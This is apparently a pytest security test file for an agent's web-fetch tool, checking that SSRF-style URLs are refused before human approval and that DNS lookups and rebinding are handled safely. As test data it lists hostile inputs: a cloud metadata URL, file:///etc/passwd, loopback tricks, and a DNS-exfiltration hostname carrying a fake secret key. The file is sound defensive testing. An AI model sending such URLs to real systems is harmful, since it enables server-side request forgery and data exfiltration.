"""Clause: the URL's pure checks run before approval, and nothing reaches the network before it.

"Pure Host checks (... URL/redirect ...) ... approval ... No file mutation,
subprocess, network or tool import happens before the capability and
approval checks pass." A refused URL (scheme, credentials, port, a literal
private address) is ``denied`` before a person is asked, and the prompt
shows the checked origin. The name is resolved only after the approval: a
DNS lookup already reaches whoever serves the name, and a model can spell
what it read into one (``<secret>.evil.example``). Every answer is then
checked (a private one is ``denied``) and the connection pinned to them.
The ``web.extract`` effect runs with policy ``ask`` through the real
EffectRuntime; DNS is the scripted resolver of ``tests/security/test_ssrf.py``
and the only server is a real loopback one.
"""

from __future__ import annotations

from collections.abc import AsyncIterator, Iterable, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import httpcore
import pytest

from hostkit.authority import AuthorityResolver
from hostkit.builtins.web import UrlPolicy, web_tools
from hostkit.effects import (
    ApprovalDecision,
    ApprovalRequest,
    ApprovalRuntime,
    EffectPolicy,
    EffectRuntime,
    Toolset,
)
from hostkit.types import EffectRequest, EffectResult, TurnExecutionContext
from tests.contract.test_web_extract import ARTICLE, NoNetwork, web_context
from tests.security.test_ssrf import PUBLIC, FakeResolver
from tests.wire import serve_wire, text_reply

pytestmark = pytest.mark.anyio


class Approver:
    """Records every prompt; answers with a fixed decision."""

    def __init__(self, decision: ApprovalDecision = "approve_once") -> None:
        self.decision = decision
        self.seen: list[ApprovalRequest] = []

    async def decide(self, request: ApprovalRequest) -> ApprovalDecision:
        self.seen.append(request)
        return self.decision


class Pinned(httpcore.AsyncNetworkBackend):
    """The raw connector: real connections, recording the address each one went to."""

    def __init__(self) -> None:
        self.inner = httpcore.AnyIOBackend()
        self.addresses: list[str] = []

    async def connect_tcp(
        self,
        host: str,
        port: int,
        timeout: float | None = None,  # noqa: ASYNC109 - httpcore's interface
        local_address: str | None = None,
        socket_options: Iterable[Any] | None = None,
    ) -> httpcore.AsyncNetworkStream:
        self.addresses.append(host)
        return await self.inner.connect_tcp(host, port, timeout=timeout)


@asynccontextmanager
async def asking(
    context: TurnExecutionContext,
    policy: UrlPolicy,
    backend: httpcore.AsyncNetworkBackend,
    approver: Approver,
) -> AsyncIterator[Any]:
    """``web.extract`` under effect policy ``ask``; yields ``run(url) -> EffectResult``."""
    (extract,) = web_tools(policy, network_backend=backend)

    class Tools:
        async def toolset(self, context: TurnExecutionContext) -> Toolset:
            return Toolset(
                ((extract, "builtin:web"),), EffectPolicy(ask=("web.extract",)), Path("/tmp")
            )

    runtime = EffectRuntime(toolsets=Tools(), approvals=ApprovalRuntime(provider=approver))
    catalog = await runtime.prepare_catalog(context)
    ref = catalog.resolve("web_extract")
    assert ref is not None

    async def run(url: str) -> EffectResult:
        return await runtime.execute(EffectRequest("c1", ref, {"url": url}), context)

    try:
        yield run
    finally:
        await runtime.close_catalog(catalog)


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("http://127.0.0.1:8080/admin", "loopback"),
        ("http://10.1.2.3/", "private"),
        ("http://169.254.169.254/latest/meta-data/", "metadata"),
        ("http://[::1]/", "loopback"),
        ("http://0177.0.0.1/", "loopback"),
        ("http://user:pw@example.com/", "credentials"),
        ("http://[::1", "malformed"),
        ("file:///etc/passwd", "scheme"),
        ("http://example.com:0/", "port"),
        ("http://localhost:8080/", "loopback name"),
        ("http://admin.localhost/", "loopback name"),
    ],
)
async def test_refused_url_is_denied_before_approval_and_never_reaches_a_person(
    authority: AuthorityResolver, url: str, reason: str
) -> None:
    approver, network = Approver(), NoNetwork()
    resolver = FakeResolver({"example.com": [[PUBLIC]]})
    policy = UrlPolicy(resolver=resolver)
    async with asking(await web_context(authority), policy, network, approver) as run:
        result = await run(url)
    assert (result.status, result.started) == ("denied", False), (reason, result.error)
    assert approver.seen == []
    assert network.attempts == 0
    assert resolver.calls == []  # every one of these is refused without asking DNS


@pytest.mark.parametrize("decision", ["deny", "approve_once"])
async def test_no_name_is_resolved_before_the_approval(
    authority: AuthorityResolver, decision: ApprovalDecision
) -> None:
    """A denied call never asks DNS: the name the model chose reaches no one."""
    approver, network = Approver(decision), NoNetwork()
    resolver = FakeResolver({})
    looked_up_when_asked: list[list[str]] = []

    async def decide(request: ApprovalRequest) -> ApprovalDecision:
        looked_up_when_asked.append(list(resolver.calls))
        return await Approver.decide(approver, request)

    approver.decide = decide  # type: ignore[method-assign]
    async with asking(
        await web_context(authority), UrlPolicy(resolver=resolver), network, approver
    ) as run:
        result = await run("https://sk-live-1234.exfil.example.com/")
    assert looked_up_when_asked == [[]]
    assert dict(approver.seen[0].view["target"]) == {
        "origin": "https://sk-live-1234.exfil.example.com:443"
    }
    if decision == "deny":
        assert (result.status, resolver.calls) == ("denied", [])
    else:
        assert resolver.calls == ["sk-live-1234.exfil.example.com"]
    assert network.attempts == 0


async def test_name_resolving_to_a_private_address_is_denied_after_approval(
    authority: AuthorityResolver,
) -> None:
    approver, network = Approver(), NoNetwork()
    # One public answer and one private one: the whole host fails closed.
    resolver = FakeResolver({"intranet.example.com": [[PUBLIC, "10.0.0.5"]]})
    async with asking(
        await web_context(authority), UrlPolicy(resolver=resolver), network, approver
    ) as run:
        result = await run("https://intranet.example.com/payroll?token=abc")
    assert result.status == "denied"
    assert result.error is not None
    assert "private" in result.error
    assert len(approver.seen) == 1
    assert network.attempts == 0
    assert resolver.calls == ["intranet.example.com"]


async def test_unresolvable_name_fails_after_approval(authority: AuthorityResolver) -> None:
    async def no_such_name(host: str, port: int) -> Sequence[str]:
        raise OSError("Name or service not known")

    approver, network = Approver(), NoNetwork()
    async with asking(
        await web_context(authority), UrlPolicy(resolver=no_such_name), network, approver
    ) as run:
        result = await run("https://nowhere.example.com/")
    assert result.status == "failed"
    assert len(approver.seen) == 1
    assert network.attempts == 0


async def test_a_literal_address_is_checked_and_shown_before_approval(
    authority: AuthorityResolver,
) -> None:
    async with serve_wire() as server:
        server.script(text_reply(ARTICLE, content_type="text/html; charset=utf-8"))
        approver, network = Approver(), Pinned()
        policy = UrlPolicy(resolver=FakeResolver({}), allow_private=frozenset({"127.0.0.1"}))
        url = f"http://127.0.0.1:{server.port}/owls?key=s3cret"
        async with asking(await web_context(authority), policy, network, approver) as run:
            result = await run(url)
    assert result.status == "succeeded", result.error
    (request,) = approver.seen
    assert dict(request.view["target"]) == {
        "origin": f"http://127.0.0.1:{server.port}",
        "addresses": ("127.0.0.1",),
    }
    assert "s3cret" not in repr(request.view["target"])


async def test_an_approved_name_is_resolved_once_and_the_fetch_pinned_to_its_answer(
    authority: AuthorityResolver,
) -> None:
    async with serve_wire() as server:
        server.script(text_reply(ARTICLE, content_type="text/html; charset=utf-8"))
        approver, network = Approver(), Pinned()
        resolver = FakeResolver({"owls.example.com": [["127.0.0.1"], ["10.9.9.9"]]})
        policy = UrlPolicy(resolver=resolver, allow_private=frozenset({"127.0.0.1"}))
        url = f"http://owls.example.com:{server.port}/owls?key=s3cret"
        async with asking(await web_context(authority), policy, network, approver) as run:
            result = await run(url)

    assert result.status == "succeeded", result.error
    (request,) = approver.seen
    assert dict(request.view["target"]) == {"origin": f"http://owls.example.com:{server.port}"}
    assert "s3cret" not in repr(request.view["target"])
    # DNS was asked once, after approval, and its second (rebinding) answer never consulted.
    assert resolver.calls == ["owls.example.com"]
    assert network.addresses == ["127.0.0.1"]
    assert "snowy owl" in result.views.model
